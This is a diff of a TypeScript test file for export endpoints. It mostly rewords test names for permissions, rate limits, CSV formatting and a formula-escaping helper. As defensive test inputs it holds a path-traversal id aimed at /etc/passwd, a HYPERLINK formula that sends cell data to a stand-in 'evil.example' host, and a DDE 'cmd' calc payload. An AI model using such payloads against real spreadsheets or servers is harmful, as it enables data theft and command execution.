@@ -60,7 +60,7 @@ async function table(): Promise<Row[]> {
   return parse(answer.body, { bom: true, columns: true });
 }
 
-describe('who may export', () => {
+describe('export permissions', () => {
   const calls = [
     ['CSV', csv, {}, (of: string) => `analysis-data-${of}.csv`],
     ['PDF', pdf, { options: { format: 'Letter' } }, (of: string) => `analysis-report-${of}.pdf`],
@@ -77,7 +77,7 @@ describe('who may export', () => {
   beforeEach(() => pays(owner, 'Enterprise'));
 
   it.each(calls)(
-    '%s: a paid owner, as a file that nobody keeps on the way',
+    '%s: is sent to a paid owner, uncached and with a file name',
     async (_name, path, options, fileName) => {
       const answer = await owner.post(path, { analysisId: analysis.analysisId, ...options });
       expect(answer.statusCode).toBe(200);
@@ -88,7 +88,7 @@ describe('who may export', () => {
     },
   );
 
-  it.each(calls)('%s: nobody on the free trial, but an admin', async (_name, path, options) => {
+  it.each(calls)('%s: is refused on the free trial, except for an admin', async (_name, path, options) => {
     const body = { analysisId: analysis.analysisId, ...options };
     await becomes(owner, { isPaidUser: false, currentPlan: 'Free Trial' });
     const refused = await owner.post(path, body);
@@ -97,27 +97,30 @@ describe('who may export', () => {
     expect((await admin.post(path, body)).statusCode).toBe(200);
   });
 
-  it.each(calls)('%s: nobody else, not even of a public analysis', async (_name, path, options) => {
-    const body = { analysisId: analysis.analysisId, ...options };
-    const other = await product.member();
-    await pays(other, 'Enterprise');
-    const { db } = product.database;
-    await db.update(analyses).set({ isPublic: true }).where(eq(analyses.id, analysis.analysisId));
-    const answers = [
-      await other.post(path, body),
-      await other.post(path, { ...body, analysisId: 'x'.repeat(21) }),
-      await product.browser().post(path, body),
-      await owner.post(path, { ...body, analysisId: '../../etc/passwd' }),
-    ];
-    expect(answers.map((answer) => [answer.statusCode, answer.json().error])).toEqual([
-      [404, TEXTS.analysisAbsent],
-      [404, TEXTS.analysisAbsent],
-      [401, TEXTS.notAuthenticated],
-      [400, 'This is not the id of an analysis. Please check the link.'],
-    ]);
-  });
+  it.each(calls)(
+    '%s: is refused to other users, even if the analysis is public',
+    async (_name, path, options) => {
+      const body = { analysisId: analysis.analysisId, ...options };
+      const other = await product.member();
+      await pays(other, 'Enterprise');
+      const { db } = product.database;
+      await db.update(analyses).set({ isPublic: true }).where(eq(analyses.id, analysis.analysisId));
+      const answers = [
+        await other.post(path, body),
+        await other.post(path, { ...body, analysisId: 'x'.repeat(21) }),
+        await product.browser().post(path, body),
+        await owner.post(path, { ...body, analysisId: '../../etc/passwd' }),
+      ];
+      expect(answers.map((answer) => [answer.statusCode, answer.json().error])).toEqual([
+        [404, TEXTS.analysisAbsent],
+        [404, TEXTS.analysisAbsent],
+        [401, TEXTS.notAuthenticated],
+        [400, 'This is not the id of an analysis. Please check the link.'],
+      ]);
+    },
+  );
 
-  it('the rubric: nobody without an Enterprise package', async () => {
+  it('rubric: is refused without a paid Enterprise package', async () => {
     await pays(owner, 'Combined Package');
     const refused = await owner.post(rubric, { analysisId: analysis.analysisId, format: 'json' });
     expect([refused.statusCode, refused.json().error]).toEqual([403, EXPORT_TEXTS.enterpriseOnly]);
@@ -127,23 +130,23 @@ describe('who may export', () => {
   });
 
   it.each([
-    ['a fifth kind of documentation', documentation, { format: 'secret' }],
-    ['another paper', pdf, { options: { format: 'A3' } }],
-    ['another record', pdf, { options: { record: 'short' } }],
-    ['another picture', picture, { picture: 'original' }],
-    ['another rubric', rubric, { format: 'exe' }],
+    ['an unknown documentation format', documentation, { format: 'secret' }],
+    ['an unknown paper format', pdf, { options: { format: 'A3' } }],
+    ['an unknown record', pdf, { options: { record: 'short' } }],
+    ['an unknown picture', picture, { picture: 'original' }],
+    ['an unknown rubric format', rubric, { format: 'exe' }],
   ])('refuses %s as invalid', async (_what, path, options) => {
     const answer = await owner.post(path, { analysisId: analysis.analysisId, ...options });
     expect([answer.statusCode, answer.json().code]).toEqual([400, 'invalid']);
   });
 
-  it('says what to do about it', async () => {
+  it('says in the error that a paid plan is needed', async () => {
     await becomes(owner, { isPaidUser: false });
     const answer = await owner.post(csv, { analysisId: analysis.analysisId });
     expect(answer.json().error).toBe(EXPORT_TEXTS.paidOnly);
   });
 
-  it('refuses above the limit of an account, which holds for all exports together', async () => {
+  it('limits all exports of an account together', async () => {
     const limited = await testProduct({ rateLimits: { export: { max: 2, seconds: 60 } } });
     const member = await limited.member();
     await limited.database.db.update(users).set({ isPaidUser: true });
@@ -155,8 +158,8 @@ describe('who may export', () => {
   });
 });
 
-describe('the CSV file', () => {
-  it('carries everything that the report says', async () => {
+describe('the CSV export', () => {
+  it('contains everything in the report', async () => {
     const { analysis: report } = await gradedExample('loud-rectangle');
     await says(report);
     const rows = await table();
@@ -188,7 +191,7 @@ describe('the CSV file', () => {
       expect(said).toContain(text);
   });
 
-  it('opens in Excel: a byte order mark, lines as RFC 4180 ends them, every cell quoted', async () => {
+  it('has a byte order mark, CRLF line endings and quoted cells for Excel', async () => {
     const { rawPayload, headers } = await owner.post(csv, { analysisId: analysis.analysisId });
     expect(headers['content-type']).toBe('text/csv; charset=utf-8');
     expect([...rawPayload.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
@@ -197,14 +200,14 @@ describe('the CSV file', () => {
     expect(lines.length).toBeGreaterThan(20);
   });
 
-  it('hands letters of every script on as they are', async () => {
+  it('keeps text in any script unchanged', async () => {
     const copy = 'Söldä “quoted”, 50 % 🎉 – مرحبا, שלום, 你好; 안녕';
     await says({ ...(await gradedExample('wordless')).analysis, adCopy: copy });
     const rows = await table();
     expect(rows.find(({ Item }) => Item === 'Ad copy')?.['Text']).toBe(copy);
   });
 
-  it('keeps a formula in the copy from being run', async () => {
+  it('escapes a formula in the ad copy', async () => {
     const copy = '=HYPERLINK("https://evil.example?"&A1,"Click")';
     await says({ ...(await gradedExample('wordless')).analysis, adCopy: copy });
     const rows = await table();
@@ -213,7 +216,7 @@ describe('the CSV file', () => {
 });
 
 describe('the rubric as JSON', () => {
-  it('says how this analysis was graded, so that the sum can be redone', async () => {
+  it('contains the weights and scores needed to recompute the sum', async () => {
     const { analysis: report } = await gradedExample('loud-rectangle');
     await says(report);
     await pays(owner, 'Enterprise');
@@ -227,21 +230,21 @@ describe('the rubric as JSON', () => {
   });
 });
 
-describe('the PDF', () => {
-  it('is one, also when its options are left out', async () => {
+describe('the PDF export', () => {
+  it('is made with default options', async () => {
     const answer = await owner.post(pdf, { analysisId: analysis.analysisId });
     expect([answer.statusCode, answer.headers['content-type']]).toEqual([200, 'application/pdf']);
     expect(answer.rawPayload.subarray(0, 5).toString()).toBe('%PDF-');
   });
 
-  it('is there too when the creative is gone', async () => {
+  it('is made even if the creative’s file is gone', async () => {
     for (const key of await product.store.keys()) await product.store.remove(key);
     const answer = await owner.post(pdf, { analysisId: analysis.analysisId });
     expect(answer.statusCode).toBe(200);
   });
 });
 
-describe('a cell', () => {
+describe('escapeFormula', () => {
   it.each([
     '=1+1',
     '+1+1',
@@ -260,18 +263,18 @@ describe('a cell', () => {
     '＠SUM(A1)',
     "=cmd|' /C calc'!A0",
     '\tindented',
-  ])('that a spreadsheet could run begins with an apostrophe: %j', (text) => {
+  ])('adds an apostrophe before text that a spreadsheet could run: %j', (text) => {
     expect(escapeFormula(text).startsWith("'")).toBe(true);
   });
 
   it.each(['Save 30 % = more', 'a-b', '“=” is a sign', '5 + 5', 'x@y.example', '', '–5'])(
-    'of harmless text stays as it is: %j',
+    'leaves harmless text unchanged: %j',
     (text) => {
       expect(escapeFormula(text)).toBe(text);
     },
   );
 
-  it('holds no half letters and no controls', () => {
+  it('removes control characters and replaces lone surrogates', () => {
     expect(escapeFormula('a\u0000b\u001bc\ud800d')).toBe('abc\ufffdd');
   });
 });
